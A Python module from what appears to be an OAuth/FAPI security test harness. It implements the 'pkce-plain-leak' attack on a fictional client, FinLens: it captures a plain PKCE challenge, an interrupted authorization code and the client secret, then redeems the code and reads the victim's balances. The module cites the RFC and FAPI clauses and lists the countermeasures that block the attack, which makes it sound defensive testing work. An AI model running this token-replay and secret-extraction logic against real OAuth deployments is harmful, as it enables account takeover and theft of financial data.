"""pkce-plain-leak: with the `plain` method, the challenge in the URL is the verifier.

A3a + A3b + A4 together: the attacker reads the front-channel authorization request
(its code_challenge, method plain), the AS's redirect of the same flow, interrupted
before FinLens redeemed the code, and FinLens's client secret from an earlier token
request. RFC 7636 §4.2: with plain, code_challenge = code_verifier, so the "proof" was
public all along (§7.2: plain only when S256 is impossible; FAPI2 §5.3.2.2: S256 only).
A signed request object (JAR) does not hide it: the attacker reads it inside the object.
"""

from __future__ import annotations

import base64

from attacker import frontchannel as fc
from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.premises import linked_victim


def _secret(ctx: AttackContext) -> tuple[dict[str, str], tuple[str, str] | None]:
    """FinLens's client secret as it crossed the token leg: in the body, or HTTP Basic."""
    leaked = ctx.capture.last("token", where=ts.is_token_grant("authorization_code"))
    form = leaked.form()
    if form.get("client_secret"):
        return {"client_id": form.get("client_id", ""),
                "client_secret": form["client_secret"]}, None
    basic = leaked.header("Authorization") or ""
    if basic.lower().startswith("basic "):
        client_id, _, secret = base64.b64decode(basic[6:]).decode().partition(":")
        return {}, (client_id, secret)
    ctx.failed("no client secret crossed the token leg: FinLens authenticates asymmetrically")


def run(ctx: AttackContext) -> None:
    victim = linked_victim(ctx)
    fields, basic = _secret(ctx)
    ctx.step("attacker", "reads FinLens's client secret in an earlier token request (token leg)")
    victim.link(stop="response")
    response = ctx.capture.last("authz_response", where=lambda x: "code" in x.location_params())
    params = response.location_params()
    # in the query, or inside a signed request object (JAR signs it, it does not hide it)
    front = [(x, fc.request_params(x.query())) for x in ctx.capture.all("authz_request")]
    front = [(x, asked) for x, asked in front if asked.get("code_challenge")]
    if not front:
        ctx.failed("no code_challenge crossed the front channel: FinLens pushed its request "
                   "(PAR) or used no PKCE")
    request, asked = front[-1]
    ctx.capture.read.append(request)
    challenge = asked["code_challenge"]
    if asked.get("code_challenge_method", "plain") != "plain":
        ctx.failed("the challenge is S256: the verifier cannot be derived from it")
    inside = "request" in request.query()
    ctx.step("attacker", "reads the plain code_challenge (authz_request leg"
             + (", inside the signed request object" if inside else "")
             + ") and the code of the interrupted flow (authz_response leg)")
    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    form = {"grant_type": "authorization_code", "code": params["code"],
            "redirect_uri": ctx.url("tpp", "/callback"), "code_verifier": challenge, **fields}
    answer = ts.post_token(ctx, form, signer=signer, auth=basic,
                           what="POST /token as FinLens with code_verifier = the plain challenge")
    tokens = ts.tokens_or_fail(ctx, answer, "the AS refused the code with the plain challenge")
    balances = ts.read_balances(ctx, tokens, signer=signer)
    ctx.succeeded(f"redeemed the victim's code with her own challenge and read {len(balances)} "
                  "balances", balances)


ATTACK = Attack(
    id="pkce-plain-leak", attacker="A3a + A3b + A4",
    title="A `plain` challenge is the verifier",
    blocked_by=("pkce_s256_only", "par_required", "private_key_jwt_only"),
    legs=("authz_request", "authz_response", "token"), victim="prior",
    # Explicit settings: FinLens keeps them even where the AS's metadata says otherwise, so
    # par_required / private_key_jwt_only refuse the victim's own flow (attacks.md §3: "the
    # victim's request is refused") instead of FinLens quietly adapting.
    needs={"pkce": "plain", "request": "query", "client_auth": "client_secret_post"},
    premise="Reads front-channel authorization requests and responses and FinLens's token "
            "requests; the victim's second flow is interrupted before FinLens redeems the code.",
    goal="the victim's balances, from her code redeemed with the plain challenge", run=run,
    refs=("RFC 7636 §4.2", "RFC 7636 §7.2", "BCP §2.1.1", "FAPI2 §5.3.2.2"),
)
